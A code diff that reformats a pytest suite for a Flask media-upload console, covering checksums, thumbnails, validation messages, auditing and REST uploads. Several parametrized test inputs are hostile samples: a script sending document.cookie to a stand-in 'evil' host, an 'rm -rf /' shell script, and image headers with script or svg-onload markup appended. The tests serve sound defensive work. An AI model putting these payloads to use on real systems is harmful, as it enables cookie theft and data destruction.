@@ -49,8 +49,9 @@ def field_errors(page: Any) -> dict[str, str]:
 
 def upload(client: Any, data: bytes, filename: str, lang: str = "", **fields: Any) -> Any:
     form = {"csrf_token": csrf_now(client), "file": (BytesIO(data), filename), **fields}
-    return client.post(f"/console/media{'?lang=' + lang if lang else ''}", data=form,
-                       content_type="multipart/form-data")
+    return client.post(
+        f"/console/media{'?lang=' + lang if lang else ''}", data=form, content_type="multipart/form-data"
+    )
 
 
 def media_dir(app: Flask) -> Path:
@@ -76,15 +77,20 @@ def add_media(app: Flask, org_unit_id: int, title: str) -> int:
     media_dir(app).mkdir(parents=True, exist_ok=True)
     (media_dir(app) / digest).write_bytes(data)
     with Session(database(app).engine) as session:
-        item = Media(org_unit_id=org_unit_id, title=title, media_type="image", mime="image/png", sha256=digest,
-                     size_bytes=len(data))
+        item = Media(
+            org_unit_id=org_unit_id,
+            title=title,
+            media_type="image",
+            mime="image/png",
+            sha256=digest,
+            size_bytes=len(data),
+        )
         session.add(item)
         session.commit()
         return item.id
 
 
-def test_a_png_upload_is_stored_by_checksum_with_a_served_thumbnail(cw: ConsoleWorld, client: Any,
-                                                                     app: Flask) -> None:
+def test_a_png_upload_is_stored_by_checksum_with_a_served_thumbnail(cw: ConsoleWorld, client: Any, app: Flask) -> None:
     sign_in(client, "editor")
     data = picture((800, 600))
     done = upload(client, data, "招聘会海报.png", org_unit_id=str(cw.world.county_id))
@@ -92,7 +98,12 @@ def test_a_png_upload_is_stored_by_checksum_with_a_served_thumbnail(cw: ConsoleW
     (item,) = stored_media(app)
     digest = hashlib.sha256(data).hexdigest()
     assert (item.title, item.sha256, item.size_bytes, item.mime, item.org_unit_id) == (
-        "招聘会海报", digest, len(data), "image/png", cw.world.county_id)
+        "招聘会海报",
+        digest,
+        len(data),
+        "image/png",
+        cw.world.county_id,
+    )
     assert files(app) == [digest, f"{digest}.thumb.webp"]
     thumb = client.get(f"/media/{digest}/thumb")
     assert thumb.status_code == 200 and thumb.mimetype == "image/webp"
@@ -119,13 +130,17 @@ def test_a_sideways_photo_gets_an_upright_thumbnail(cw: ConsoleWorld, client: An
     assert Image.open(media_dir(app) / media_store.thumbnail_name(item.sha256)).size == (160, 320)
 
 
-@pytest.mark.parametrize(("data", "filename"), [
-    (b"<!doctype html><html><script>fetch('/console/users')</script></html>", "photo.png"),
-    (b"alert(document.cookie);\nnew Image().src='//evil/'+document.cookie;", "banner.png"),
-    (b"#!/bin/sh\nrm -rf /\n", "logo.jpg"),
-])
-def test_a_script_or_page_named_as_an_image_is_refused(cw: ConsoleWorld, client: Any, app: Flask, data: bytes,
-                                                       filename: str) -> None:
+@pytest.mark.parametrize(
+    ("data", "filename"),
+    [
+        (b"<!doctype html><html><script>fetch('/console/users')</script></html>", "photo.png"),
+        (b"alert(document.cookie);\nnew Image().src='//evil/'+document.cookie;", "banner.png"),
+        (b"#!/bin/sh\nrm -rf /\n", "logo.jpg"),
+    ],
+)
+def test_a_script_or_page_named_as_an_image_is_refused(
+    cw: ConsoleWorld, client: Any, app: Flask, data: bytes, filename: str
+) -> None:
     sign_in(client, "editor")
     page = upload(client, data, filename, org_unit_id=str(cw.world.city_id), title="海报")
     assert page.status_code == 400
@@ -135,13 +150,17 @@ def test_a_script_or_page_named_as_an_image_is_refused(cw: ConsoleWorld, client:
     assert stored_media(app) == [] and files(app) == []
 
 
-@pytest.mark.parametrize("data", [
-    b"\x89PNG\r\n\x1a\n<script>alert(document.cookie)</script>",  # a PNG's first bytes, then a script
-    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<svg onload=alert(1)>",  # a JPEG's, then markup
-    picture((40, 30)) + b"<script>alert(document.cookie)</script>",  # a whole PNG with a script after its end
-])
-def test_an_image_header_with_a_script_behind_it_is_refused(cw: ConsoleWorld, client: Any, app: Flask,
-                                                            data: bytes) -> None:
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x89PNG\r\n\x1a\n<script>alert(document.cookie)</script>",  # a PNG's first bytes, then a script
+        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<svg onload=alert(1)>",  # a JPEG's, then markup
+        picture((40, 30)) + b"<script>alert(document.cookie)</script>",  # a whole PNG with a script after its end
+    ],
+)
+def test_an_image_header_with_a_script_behind_it_is_refused(
+    cw: ConsoleWorld, client: Any, app: Flask, data: bytes
+) -> None:
     sign_in(client, "editor")
     page = upload(client, data, "poster.png", org_unit_id=str(cw.world.city_id))
     assert page.status_code == 400
@@ -149,8 +168,9 @@ def test_an_image_header_with_a_script_behind_it_is_refused(cw: ConsoleWorld, cl
     assert stored_media(app) == [] and files(app) == []  # not even a temporary file is left
 
 
-def test_a_file_over_the_cap_is_refused_in_megabytes(cw: ConsoleWorld, client: Any, app: Flask,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_file_over_the_cap_is_refused_in_megabytes(
+    cw: ConsoleWorld, client: Any, app: Flask, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(media_store, "MAX_BYTES", 2 * 1024 * 1024)  # read on every upload
     sign_in(client, "editor")
     big = picture((64, 64)) + b"\0" * (3 * 1024 * 1024)
@@ -187,20 +207,38 @@ def test_a_video_is_stored_without_a_thumbnail_and_shows_an_icon(cw: ConsoleWorl
 
 def test_every_upload_field_is_checked_at_once(cw: ConsoleWorld, client: Any, app: Flask) -> None:
     sign_in(client, "editor")
-    page = client.post("/console/media", data={"csrf_token": csrf_now(client), "title": "x" * 201,
-                                               "org_unit_id": "", "valid_from": "明天", "duration_seconds": "0"},
-                       content_type="multipart/form-data")
+    page = client.post(
+        "/console/media",
+        data={
+            "csrf_token": csrf_now(client),
+            "title": "x" * 201,
+            "org_unit_id": "",
+            "valid_from": "明天",
+            "duration_seconds": "0",
+        },
+        content_type="multipart/form-data",
+    )
     assert page.status_code == 400
-    assert field_errors(page) == {"file": "请选择要上传的文件", "title": "不能超过200个字", "org_unit_id": "请选择",
-                                  "valid_from": "请填写完整的日期和时间", "duration_seconds": "不能小于1"}
+    assert field_errors(page) == {
+        "file": "请选择要上传的文件",
+        "title": "不能超过200个字",
+        "org_unit_id": "请选择",
+        "valid_from": "请填写完整的日期和时间",
+        "duration_seconds": "不能小于1",
+    }
     assert "请更正标出的项目" in page.get_data(as_text=True)
 
 
-def test_the_window_must_end_after_it_starts_and_nothing_is_stored(cw: ConsoleWorld, client: Any,
-                                                                     app: Flask) -> None:
+def test_the_window_must_end_after_it_starts_and_nothing_is_stored(cw: ConsoleWorld, client: Any, app: Flask) -> None:
     sign_in(client, "editor")
-    page = upload(client, picture(), "a.png", org_unit_id=str(cw.world.city_id),
-                  valid_from="2026-12-05T09:00", valid_until="2026-12-05T08:00")
+    page = upload(
+        client,
+        picture(),
+        "a.png",
+        org_unit_id=str(cw.world.city_id),
+        valid_from="2026-12-05T09:00",
+        valid_until="2026-12-05T08:00",
+    )
     assert page.status_code == 400 and field_errors(page) == {"valid_until": "停止显示的时间须晚于开始显示的时间"}
     assert stored_media(app) == [] and files(app) == []
 
@@ -243,9 +281,17 @@ def test_editing_changes_the_item_and_is_audited(cw: ConsoleWorld, client: Any, 
     (item,) = stored_media(app)
     form = client.get(f"/console/media/{item.id}").get_data(as_text=True)
     assert f'id="sha256">{item.sha256}</code>' in form
-    done = client.post(f"/console/media/{item.id}", data={
-        "csrf_token": csrf_now(client), "title": "春风行动海报", "org_unit_id": str(cw.world.county_id),
-        "valid_from": "", "valid_until": "2026-12-31T18:00", "duration_seconds": "12"})
+    done = client.post(
+        f"/console/media/{item.id}",
+        data={
+            "csrf_token": csrf_now(client),
+            "title": "春风行动海报",
+            "org_unit_id": str(cw.world.county_id),
+            "valid_from": "",
+            "valid_until": "2026-12-31T18:00",
+            "duration_seconds": "12",
+        },
+    )
     assert done.status_code == 302
     (changed,) = stored_media(app)
     assert (changed.title, changed.org_unit_id, changed.duration_seconds) == ("春风行动海报", cw.world.county_id, 12)
@@ -263,15 +309,33 @@ def test_an_edit_with_problems_says_each_and_changes_nothing(cw: ConsoleWorld, c
     sign_in(client, "editor")
     upload(client, picture(), "a.png", org_unit_id=str(cw.world.city_id))
     (item,) = stored_media(app)
-    page = client.post(f"/console/media/{item.id}?lang=en", data={
-        "csrf_token": csrf_now(client), "title": " ", "org_unit_id": str(cw.world.city_id),
-        "valid_from": "2026-12-05T09:00", "valid_until": "2026-12-04T09:00", "duration_seconds": "1.5"})
+    page = client.post(
+        f"/console/media/{item.id}?lang=en",
+        data={
+            "csrf_token": csrf_now(client),
+            "title": " ",
+            "org_unit_id": str(cw.world.city_id),
+            "valid_from": "2026-12-05T09:00",
+            "valid_until": "2026-12-04T09:00",
+            "duration_seconds": "1.5",
+        },
+    )
     assert page.status_code == 400
-    assert field_errors(page) == {"title": "Fill this in", "duration_seconds": "Enter a whole number",
-                                  "valid_until": "Must be after the start"}
-    page = client.post(f"/console/media/{item.id}?lang=zh-CN", data={
-        "csrf_token": csrf_now(client), "title": "b", "org_unit_id": str(cw.world.city_id),
-        "valid_from": "2026-12-05T09:00", "valid_until": "2026-12-04T09:00"})
+    assert field_errors(page) == {
+        "title": "Fill this in",
+        "duration_seconds": "Enter a whole number",
+        "valid_until": "Must be after the start",
+    }
+    page = client.post(
+        f"/console/media/{item.id}?lang=zh-CN",
+        data={
+            "csrf_token": csrf_now(client),
+            "title": "b",
+            "org_unit_id": str(cw.world.city_id),
+            "valid_from": "2026-12-05T09:00",
+            "valid_until": "2026-12-04T09:00",
+        },
+    )
     assert field_errors(page) == {"valid_until": "停止显示的时间须晚于开始显示的时间"}
     (unchanged,) = stored_media(app)
     assert (unchanged.title, unchanged.valid_from, unchanged.valid_until) == ("a", None, None)
@@ -300,27 +364,38 @@ def test_archive_then_delete_unless_a_playlist_plays_it(cw: ConsoleWorld, client
     assert stored_media(app) == []
     assert client.get(f"/media/{item.sha256}").status_code == 404  # the file stays, unreachable
     with Session(database(app).engine) as session:
-        actions = [e.action for e in session.scalars(select(AuditEntry).where(AuditEntry.object_kind == "media")
-                                                     .order_by(AuditEntry.id))]
+        actions = [
+            e.action
+            for e in session.scalars(
+                select(AuditEntry).where(AuditEntry.object_kind == "media").order_by(AuditEntry.id)
+            )
+        ]
         assert actions == ["created", "archived", "deleted"]
-        kinds = [e.payload.get("action") for e in session.scalars(
-            select(OutboxEvent).order_by(OutboxEvent.id)) if e.payload.get("kind") == "media"]
+        kinds = [
+            e.payload.get("action")
+            for e in session.scalars(select(OutboxEvent).order_by(OutboxEvent.id))
+            if e.payload.get("kind") == "media"
+        ]
         assert kinds == ["created", "archived", "deleted"]
 
 
-def test_the_api_refuses_what_the_console_refuses(cw: ConsoleWorld, client: Any, app: Flask,
-                                                  auth_headers: dict[str, str]) -> None:
+def test_the_api_refuses_what_the_console_refuses(
+    cw: ConsoleWorld, client: Any, app: Flask, auth_headers: dict[str, str]
+) -> None:
     """One store for both: a PNG header with a script behind it is refused over REST as well."""
-    form = {"org_unit_id": str(cw.world.city_id),
-            "file": (BytesIO(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"), "poster.png")}
+    form = {
+        "org_unit_id": str(cw.world.city_id),
+        "file": (BytesIO(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"), "poster.png"),
+    }
     answer = client.post("/api/v1/media", data=form, content_type="multipart/form-data", headers=auth_headers)
     assert answer.status_code == 422 and answer.json["errors"][0]["field"] == "file"
     assert "not a complete image/png image" in answer.json["errors"][0]["message"]
     assert files(app) == []
 
 
-def test_an_image_uploaded_over_rest_gets_its_thumbnail_when_first_asked(cw: ConsoleWorld, client: Any, app: Flask,
-                                                                         auth_headers: dict[str, str]) -> None:
+def test_an_image_uploaded_over_rest_gets_its_thumbnail_when_first_asked(
+    cw: ConsoleWorld, client: Any, app: Flask, auth_headers: dict[str, str]
+) -> None:
     form = {"org_unit_id": str(cw.world.city_id), "file": (BytesIO(picture((640, 640))), "logo.png")}
     made = client.post("/api/v1/media", data=form, content_type="multipart/form-data", headers=auth_headers)
     assert made.status_code == 201 and files(app) == [made.json["sha256"]]
